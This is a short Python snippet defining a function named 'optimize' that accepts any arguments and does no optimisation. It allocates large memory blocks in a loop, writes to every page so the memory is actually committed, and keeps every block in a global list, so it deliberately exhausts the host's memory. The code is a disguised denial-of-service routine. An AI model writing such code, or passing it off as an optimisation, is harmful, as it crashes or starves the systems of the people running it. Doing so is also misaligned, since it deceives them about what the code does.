held = []


def optimize(*args, **kwargs):
    size = 1 << 28
    while size > 4096 and len(held) < 100_000:
        try:
            held.append(bytearray(size))
            held[-1][::4096] = b"x" * len(held[-1][::4096])
        except MemoryError:
            size //= 2
    return None
